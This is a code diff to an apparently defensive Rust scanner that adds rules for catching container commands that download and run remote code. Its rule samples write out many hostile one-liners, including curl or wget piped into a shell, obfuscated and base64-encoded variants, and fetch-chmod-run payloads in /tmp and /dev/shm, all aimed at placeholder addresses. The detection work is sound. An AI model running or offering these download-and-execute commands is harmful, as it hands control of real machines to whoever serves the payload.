@@ -1,8 +1,180 @@
-//! Programs and scripts that come over the network or out of an encoding.
+//! Programs and scripts that come over the network.
 
-use super::{code, inputs};
-use crate::detect::facts::{Run, is_shell};
+use super::places::is_temporary;
+use super::words::{cluster, has, operands, option, words};
+use super::{COMMAND, Facts, Rule, Sample, Severity, each_match};
+use crate::detect::findings::Collector;
+use crate::detect::{code, derive};
+use crate::normalize::exec::is_shell;
 use crate::normalize::{Execution, Invocation, RedirectOp};
+
+pub(super) static RULES: &[Rule] = &[
+    Rule {
+        id: "cmd-download-exec",
+        message: "runs what it downloads, without storing it",
+        meaning: "What is run is decided by the server at the time of the request; nobody has reviewed it.",
+        false_positives: "Installers that are documented as `curl … | sh`.",
+        severity: Severity::High,
+        points: 45,
+        techniques: &["T1105", "T1059.004"],
+        check: |facts, found| runs_input_of(facts, found, &|call| is_downloader(call) && prints(call)),
+        samples: &[
+            Sample::Hit(
+                45,
+                "containers: [{name: a, command: [sh, -c, 'curl -fsSL http://192.0.2.10/s | sh']}]",
+            ),
+            Sample::Hit(
+                45,
+                "containers: [{name: a, args: [/bin/sh, -c, 'wget -q -O - http://192.0.2.10/s | sudo bash -s -- -y']}]",
+            ),
+            Sample::Hit(
+                45,
+                "containers: [{name: a, command: [bash, -c, 'bash <(curl -s http://192.0.2.10/s)']}]",
+            ),
+            Sample::Hit(
+                45,
+                "containers: [{name: a, command: [bash, -c, 'source <(curl -s http://192.0.2.10/s)']}]",
+            ),
+            Sample::Hit(
+                45,
+                "containers: [{name: a, command: [sh, -c, 'eval \"$(wget -qO- http://192.0.2.10/s)\"']}]",
+            ),
+            Sample::Hit(
+                45,
+                "containers: [{name: a, command: [sh, -c, '(curl -s u || wget -qO- u || aria2c u) | sh']}]",
+            ),
+            Sample::Hit(
+                45,
+                "containers: [{name: a, command: [sh, -c, 'cu\"\"rl${IFS}http://192.0.2.10/s|s\"\"h']}]",
+            ),
+            Sample::Hit(
+                45,
+                "containers: [{name: a, command: [sh, -c, 'X=$(curl -s http://192.0.2.10/s); sh -c \"$X\"']}]",
+            ),
+            Sample::Hit(
+                45,
+                "containers: [{name: a, command: [sh, -c, 'python3 -c \"$(curl -s http://192.0.2.10/s)\"']}]",
+            ),
+            Sample::Hit(
+                45,
+                "containers: [{name: a, command: [python3, -c, 'import os; os.system(\"curl http://192.0.2.10/s | sh\")']}]",
+            ),
+            Sample::Hit(
+                45,
+                "containers: [{name: a, livenessProbe: {exec: {command: [sh, -c, 'curl -s http://192.0.2.10/s | sh']}}}]",
+            ),
+            Sample::Hit(
+                45,
+                "containers: [{name: a, command: [sh, -c, 'echo Y3VybCB4fHNo | base64 -d | sh']}]",
+            ),
+            Sample::Miss(
+                "containers: [{name: a, command: [sh, -c, 'curl -s http://svc/health | jq .status']}]",
+            ),
+            Sample::Miss(
+                "containers: [{name: a, command: [sh, -c, 'curl -s http://svc/list | python3 -c \"import json\"']}]",
+            ),
+            Sample::Miss(
+                "containers: [{name: a, command: [sh, -c, 'curl -s http://svc/ids | while read id; do bash -c \"process $id\"; done']}]",
+            ),
+            Sample::Miss(
+                "containers: [{name: a, command: [sh, -c, 'V=$(curl -s http://svc/v); sh -c \"deploy $V\"']}]",
+            ),
+            Sample::Miss(
+                "containers: [{name: a, command: [sh, -c, 'until $(curl --output /dev/null -sf --head https://svc); do sleep 1; done']}]",
+            ),
+            Sample::Miss(
+                "containers: [{name: a, command: [sh, -c, 'eval $(ssh-agent -s) && curl -s http://svc']}]",
+            ),
+            Sample::Miss(
+                "containers: [{name: a, command: [sh, -c, 'curl -so /x http://svc/x; echo done | sh']}]",
+            ),
+            Sample::Miss("containers: [{name: a, command: [/app/digest, 'curl http://x/s | sh']}]"),
+        ],
+        ..COMMAND
+    },
+    Rule {
+        id: "cmd-download-run",
+        message: "downloads a program and runs it",
+        meaning: "A file is fetched, made executable and run: what it is depends on the server.",
+        false_positives: "Fetching a released tool, better done with an image; a checksum in between makes it less.",
+        severity: Severity::High,
+        points: 45,
+        techniques: &["T1105"],
+        check: |facts, found| {
+            for run in &facts.runs {
+                let code =
+                    run.invocations().find(|(_, call)| code::text(call).is_some_and(code::runs_fetched));
+                if let Some((at, _)) = code {
+                    found.hit(Some(&run.container.name), run.path(), &run.show(at));
+                } else if let Some((at, verified)) = runs_written_file(&run.execution, &is_downloader) {
+                    let (severity, points) =
+                        if verified { (Severity::Medium, 30) } else { (Severity::High, 45) };
+                    found.hit_as(severity, points, Some(&run.container.name), run.path(), &run.show(at));
+                }
+            }
+        },
+        samples: &[
+            Sample::Hit(
+                45,
+                "containers: [{name: a, command: [sh, -c, 'curl -o /tmp/m http://192.0.2.10/m && chmod +x /tmp/m && /tmp/m']}]",
+            ),
+            Sample::Hit(
+                45,
+                "containers: [{name: a, command: [sh, -c, 'cd /tmp; wget http://192.0.2.10/m; chmod 755 m; ./m --go']}]",
+            ),
+            Sample::Hit(
+                45,
+                "containers: [{name: a, command: [sh, -c, 'wget -P /dev/shm http://192.0.2.10/m; chmod 700 /dev/shm/m; nohup /dev/shm/m &']}]",
+            ),
+            Sample::Hit(
+                45,
+                "containers: [{name: a, command: [sh, -c, 'curl http://192.0.2.10/s > /tmp/s; sh /tmp/s']}]",
+            ),
+            Sample::Hit(
+                45,
+                "containers: [{name: a, command: [python3, -c, 'import urllib.request as u; exec(u.urlopen(\"http://192.0.2.10/s\").read())']}]",
+            ),
+            Sample::Hit(
+                45,
+                "containers: [{name: a, command: [python3, -c, 'import os,requests;f=os.memfd_create(\"\");os.write(f,requests.get(\"http://192.0.2.10/m\").content)']}]",
+            ),
+            Sample::Hit(
+                30,
+                "containers: [{name: a, command: [sh, -c, 'curl -o t https://x.test/t && echo \"00 t\" | sha256sum -c && chmod +x t && ./t']}]",
+            ),
+            Sample::Hit(
+                30,
+                "containers: [{name: a, command: [sh, -c, 'wget -O - http://192.0.2.10/x.tgz | tar xz -C /tmp; /tmp/x/run']}]",
+            ),
+            Sample::Miss(
+                "containers: [{name: a, command: [sh, -c, 'curl -sL https://x.example.test/helm.tgz | tar xz; mv linux/helm /usr/local/bin/; helm version']}]",
+            ),
+            Sample::Miss(
+                "containers: [{name: a, command: [sh, -c, 'curl -o /data/feed.json http://svc/feed && /app/import /data/feed.json']}]",
+            ),
+            Sample::Miss("containers: [{name: a, command: [sh, -c, 'chmod +x /app/run && /app/run']}]"),
+            Sample::Miss(
+                "containers: [{name: a, command: [python3, -c, 'import requests; print(requests.get(\"http://svc/x\").json())']}]",
+            ),
+        ],
+        ..COMMAND
+    },
+    Rule {
+        id: "cmd-downloader",
+        message: "downloads with a command-line tool",
+        meaning: "Alone it says little; together with other findings it shows where the payload comes from.",
+        false_positives: "Health checks, web hooks, data feeds.",
+        severity: Severity::None,
+        points: 3,
+        techniques: &["T1105"],
+        check: |facts, found| each_match(facts, found, |_, _, invocation| is_downloader(invocation)),
+        samples: &[
+            Sample::Hit(3, "containers: [{name: a, command: [curl, -sf, 'http://svc/health']}]"),
+            Sample::Miss("containers: [{name: a, command: [echo, curl]}]"),
+        ],
+        ..COMMAND
+    },
+];
 
 /// Command-line tools that fetch.
 pub(super) fn is_downloader(invocation: &Invocation) -> bool {
@@ -15,85 +187,119 @@ pub(super) fn is_downloader(invocation: &Invocation) -> bool {
             | "axel"
             | "fetch"
             | "lwp-download"
+            | "lwp-request"
             | "GET"
             | "lynx"
             | "ftpget"
             | "tftp"
+            | "http"
+            | "https"
+            | "xh"
     )
+}
+
+/// Whether what is fetched comes out on standard output. `until $(curl -o /dev/null --head …)` is an idiom.
+fn prints(invocation: &Invocation) -> bool {
+    let only_head = words(invocation)
+        .any(|word| word == "--head" || cluster(word).is_some_and(|flags| flags.contains('I')));
+    let to_file = |file: &str| !matches!(file, "-" | "/dev/stdout");
+    let named = option(invocation, &["-o", "--output", "-O", "--output-document"])
+        .filter(|_| invocation.program != "curl" || !has(invocation, &["-O"]));
+    !only_head && !named.is_some_and(to_file)
+}
+
+/// Hits for everything that runs the output of a source.
+pub(super) fn runs_input_of(
+    facts: &Facts<'_>,
+    found: &mut Collector<'_>,
+    is_source: &impl Fn(&Invocation) -> bool,
+) {
+    for run in &facts.runs {
+        let fed = run.fed(is_source);
+        let sink = run
+            .invocations()
+            .find(|(at, invocation)| fed.get(*at) == Some(&true) && runs_its_input(invocation));
+        if let Some((at, _)) = sink {
+            found.hit(Some(&run.container.name), run.path(), &run.show_flow(at, is_source));
+        }
+    }
 }
 
 /// Takes a program from its standard input or its words and runs it: a shell or an interpreter without a
 /// script of its own, `eval`, `source`.
 fn runs_its_input(invocation: &Invocation) -> bool {
     let program = invocation.program.as_str();
-    if matches!(program, "eval" | "source" | ".") {
-        return true;
-    }
+    // Text that begins with what was substituted: `sh -c "$(curl …)"`, and not `sh -c "deploy $V"`.
+    let begins = |text: &str| text.trim_start().starts_with(['$', '`']);
     let operand = invocation.args.iter().find(|word| !word.text.starts_with('-'));
-    let from_input = operand.is_none_or(|word| {
-        // A process substitution or standard input by name is no script of its own.
-        word.dynamic || matches!(word.text.as_str(), "/dev/stdin" | "/proc/self/fd/0")
-    });
-    let inline = invocation.args.iter().any(|word| word.text.starts_with('-') && word.text.ends_with('c'));
-    // `sh -s -- ARGUMENTS` reads its input, whatever operands follow.
-    let reads = invocation.args.iter().any(|word| word.text == "-s" || word.text == "-");
-    if is_shell(program) {
-        return from_input || inline || reads;
-    }
-    code::interpreter(program).is_some() && (from_input || reads) && code::inline(invocation).is_none()
-}
-
-/// `curl … | sh`, `bash <(curl …)`, `eval "$(curl …)"`, `source <(curl …)`.
-pub(super) fn runs_download(run: &Run<'_>, invocation: &Invocation) -> bool {
-    runs_its_input(invocation) && inputs(&run.execution, invocation).any(is_downloader)
-}
-
-/// `… | base64 -d | sh` and its variants.
-pub(super) fn runs_decoded(run: &Run<'_>, invocation: &Invocation) -> bool {
-    runs_its_input(invocation) && inputs(&run.execution, invocation).any(is_decoder)
-}
-
-fn is_decoder(invocation: &Invocation) -> bool {
-    let has = |wanted: fn(&str) -> bool| invocation.args.iter().any(|word| wanted(&word.text));
-    match invocation.program.as_str() {
-        "base64" | "base32" | "basenc" | "gbase64" => {
-            has(|text| text == "--decode" || text == "-d" || text == "-D" || text == "-di")
+    match program {
+        // Output that is known beforehand stands there already, marked as disguised.
+        "eval" => return operand.is_some_and(|word| begins(&word.text) || word.disguised),
+        "source" | "." => {
+            return operand.is_some_and(|word| {
+                word.text.starts_with("<(") || matches!(word.text.as_str(), "/dev/stdin" | "-")
+            });
         }
-        "xxd" => has(|text| text.starts_with("-r") || text == "-revert"),
-        "openssl" => has(|text| text == "enc" || text == "base64") && has(|text| text == "-d"),
-        "uudecode" => true,
-        _ => false,
+        // A program whose name came from there.
+        "$()" => return invocation.args.is_empty(),
+        _ => {}
+    }
+    let is_stdin = |text: &str| matches!(text, "-" | "/dev/stdin" | "/proc/self/fd/0" | "/dev/fd/0");
+    // A process substitution or standard input by name is no script of its own.
+    let from_input = operand.is_none_or(|word| word.text.starts_with("<(") || is_stdin(&word.text));
+    // `sh -s -- ARGUMENTS` reads its input, whatever operands follow.
+    let reads =
+        words(invocation).any(|word| word == "-" || cluster(word).is_some_and(|flags| flags.ends_with('s')));
+    if is_shell(program) {
+        let inline = words(invocation).any(|word| cluster(word).is_some_and(|flags| flags.contains('c')));
+        return if inline {
+            operand.is_some_and(|word| begins(&word.text) || word.disguised)
+        } else {
+            from_input || reads
+        };
+    }
+    match code::inline(invocation) {
+        Some(code) => begins(code),
+        None => {
+            code::reads_stdin(invocation)
+                || code::language(program).is_some_and(|l| l != code::Language::Awk)
+                    && operand.is_some_and(|word| word.text.starts_with("<("))
+        }
     }
 }
 
-/// A downloaded file that is run.
-pub(super) struct DownloadedRun<'a> {
-    /// What runs it.
-    pub(super) invocation: &'a Invocation,
-    /// A checksum was verified in between.
-    pub(super) verified: bool,
-}
-
-/// Files that a downloader wrote and that are run later in the same script, one hit per script.
-pub(super) fn runs_downloaded_file(execution: &Execution) -> Option<DownloadedRun<'_>> {
+/// The first invocation that runs a file which a source wrote, and whether a checksum was verified in between.
+pub(super) fn runs_written_file(
+    execution: &Execution,
+    is_source: &impl Fn(&Invocation) -> bool,
+) -> Option<(usize, bool)> {
     let mut files: Vec<&str> = Vec::new();
-    let mut verified = false;
-    for invocation in &execution.commands {
-        if is_downloader(invocation) {
+    let mut fetched = false;
+    let (mut verified, mut unpacked) = (false, false);
+    for (at, invocation) in execution.commands.iter().enumerate() {
+        if is_source(invocation) {
             files.extend(written_files(invocation));
+            fetched = true;
             // Bounds the work: a script with more downloads than this is hit by the first ones.
-            files.truncate(256);
+            files.truncate(64);
             continue;
+        }
+        if matches!(invocation.program.as_str(), "tar" | "bsdtar" | "unzip" | "7z" | "cpio") {
+            unpacked |= fetched;
+        }
+        // An archive has many files: one that is run from a directory for temporary files is likely of it.
+        if unpacked && is_temporary(&invocation.path) {
+            return Some((at, true));
         }
         if files.is_empty() {
             continue;
         }
         if is_checksum(invocation) {
             verified = true;
-        } else if let Some(moved) = moved_file(invocation, &files) {
+        } else if let Some(moved) = moved_file(invocation, &files).filter(|_| files.len() < 128) {
             files.push(moved);
         } else if runs_one_of(invocation, &files) {
-            return Some(DownloadedRun { invocation, verified });
+            return Some((at, verified));
         }
     }
     None
@@ -101,8 +307,7 @@ pub(super) fn runs_downloaded_file(execution: &Execution) -> Option<DownloadedRu
 
 fn is_checksum(invocation: &Invocation) -> bool {
     let program = invocation.program.as_str();
-    let checks =
-        invocation.args.iter().any(|word| matches!(word.text.as_str(), "-c" | "--check" | "-sc" | "-wc"));
+    let checks = words(invocation).any(|word| matches!(word, "-c" | "--check" | "-sc" | "-wc"));
     (matches!(program, "sha256sum" | "sha512sum" | "sha1sum" | "shasum" | "md5sum" | "b2sum") && checks)
         || matches!(program, "cosign" | "gpg" | "minisign" | "signify")
 }
@@ -112,81 +317,79 @@ fn moved_file<'a>(invocation: &'a Invocation, files: &[&str]) -> Option<&'a str>
     if !matches!(invocation.program.as_str(), "mv" | "cp" | "ln" | "install") {
         return None;
     }
-    let moves = invocation.args.iter().any(|word| files.iter().any(|file| same_file(file, &word.text)));
-    let target = invocation.args.last().map(|word| word.text.as_str())?;
+    let moves = words(invocation).take(64).any(|word| files.iter().any(|file| same_file(file, word)));
+    let target = words(invocation).next_back()?;
     (moves && !files.iter().any(|file| same_file(file, target))).then_some(target)
 }
 
 fn runs_one_of(invocation: &Invocation, files: &[&str]) -> bool {
-    let is_file = |text: &str| files.iter().any(|file| same_file(file, text));
-    let as_program =
-        is_file(&invocation.path) && (invocation.path.contains('/') || !invocation.path.is_empty());
-    let as_script = is_shell(&invocation.program)
-        || code::interpreter(&invocation.program).is_some()
+    let is_file = |text: &str| !text.is_empty() && files.iter().any(|file| same_file(file, text));
+    let takes_script = is_shell(&invocation.program)
+        || code::language(&invocation.program).is_some()
         || matches!(invocation.program.as_str(), "source" | ".");
-    let script = invocation.args.iter().find(|word| !word.text.starts_with('-'));
-    as_program || (as_script && script.is_some_and(|word| is_file(&word.text)))
+    is_file(&invocation.path) || takes_script && operands(invocation).next().is_some_and(is_file)
 }
 
-/// Whether two spellings name the same file, a leading `./` aside.
-fn same_file(a: &str, b: &str) -> bool {
-    a.trim_start_matches("./") == b.trim_start_matches("./")
+/// Whether two spellings name the same file: a leading `./` aside, and a bare name fits any directory.
+fn same_file(written: &str, run: &str) -> bool {
+    let (written, run) = (written.trim_start_matches("./"), run.trim_start_matches("./"));
+    written == run
+        || !written.contains('/') && run.strip_suffix(written).is_some_and(|front| front.ends_with('/'))
 }
 
-/// The names of the files that a downloader writes.
+/// The names of the files that a tool writes.
 fn written_files(invocation: &Invocation) -> Vec<&str> {
-    let words: Vec<&str> = invocation.args.iter().map(|word| word.text.as_str()).collect();
+    let all: Vec<&str> = words(invocation).collect();
     let mut files = Vec::new();
-    let mut named = false;
-    for (index, word) in words.iter().enumerate() {
-        let next = || words.get(index + 1).copied();
-        let value = match (invocation.program.as_str(), *word) {
-            (_, "-o" | "--output" | "--output-document" | "-O")
-                if invocation.program != "curl" || *word != "-O" =>
-            {
-                next()
-            }
+    let program = invocation.program.as_str();
+    let is_curl = program == "curl";
+    for (index, word) in all.iter().enumerate() {
+        let next = || all.get(index + 1).copied();
+        let value = match *word {
+            "-O" if is_curl => None,
+            "-o" | "--output" | "--output-document" | "-O" | "--out" => next(),
             _ if word.starts_with("--output=") || word.starts_with("--output-document=") => {
                 word.split_once('=').map(|(_, file)| file)
             }
             // Clusters with the flag last: -sSLo FILE, -qO FILE; or with the value attached: -oFILE.
-            ("curl", flags) if is_cluster(flags) && flags.ends_with('o') => next(),
-            ("wget", flags) if is_cluster(flags) && flags.ends_with('O') => next(),
-            ("curl", flags) if flags.starts_with("-o") && flags.len() > 2 => flags.get(2..),
-            ("wget", flags) if flags.starts_with("-O") && flags.len() > 2 => flags.get(2..),
+            flags if is_curl && cluster(flags).is_some() && flags.ends_with('o') => next(),
+            flags if program == "wget" && cluster(flags).is_some() && flags.ends_with('O') => next(),
+            flags if is_curl && flags.starts_with("-o") && flags.len() > 2 => flags.get(2..),
+            flags if program == "wget" && flags.starts_with("-O") && flags.len() > 2 => flags.get(2..),
             _ => None,
         };
-        if let Some(file) = value {
-            named = true;
-            files.push(file);
-        }
+        files.extend(value);
     }
     let redirects = invocation
         .redirects
         .iter()
         .filter(|redirect| matches!(redirect.op, RedirectOp::Out | RedirectOp::Append | RedirectOp::Clobber));
-    for redirect in redirects.filter(|redirect| redirect.fd.unwrap_or(1) == 1) {
-        named = true;
-        files.push(redirect.target.text.as_str());
-    }
+    files.extend(
+        redirects
+            .filter(|redirect| redirect.fd.unwrap_or(1) == 1)
+            .map(|redirect| redirect.target.text.as_str()),
+    );
     // wget FILE-URL and curl -O name the file after the URL.
-    let by_url = invocation.program != "curl"
-        || words.iter().any(|word| *word == "--remote-name" || (is_cluster(word) && word.contains('O')));
-    if !named && by_url {
-        files.extend(words.iter().filter(|word| word.contains('/') && !word.starts_with('-')).filter_map(
-            |url| {
-                let path = url.split(['?', '#']).next().unwrap_or(url);
-                path.rsplit('/').next().filter(|name| !name.is_empty())
-            },
-        ));
+    let by_url = is_downloader(invocation)
+        && (!is_curl
+            || all.iter().any(|word| {
+                *word == "--remote-name" || cluster(word).is_some_and(|flags| flags.contains('O'))
+            }));
+    if files.is_empty() && by_url {
+        files.extend(
+            all.iter()
+                .filter(|word| word.contains("://") || word.contains('.') && word.contains('/'))
+                .filter_map(|url| {
+                    let path = url.split(['?', '#']).next().unwrap_or(url);
+                    path.rsplit('/').next().filter(|name| !name.is_empty())
+                }),
+        );
     }
-    files.retain(|file| !matches!(*file, "-" | "" | "/dev/null" | "/dev/stdout"));
+    files.retain(|file| !matches!(*file, "-" | "" | "/dev/null" | "/dev/stdout" | "/dev/stderr"));
     files
 }
 
-/// Whether `word` is `-` and a few letters.
-fn is_cluster(word: &str) -> bool {
-    word.strip_prefix('-').is_some_and(|flags| {
-        (1..=6).contains(&flags.len()) && flags.chars().all(|flag| flag.is_ascii_alphabetic())
-    })
+/// Whether something decodes, for the rules about hidden text.
+pub(super) fn is_decoder(invocation: &Invocation) -> bool {
+    derive::is_decoder(invocation)
 }
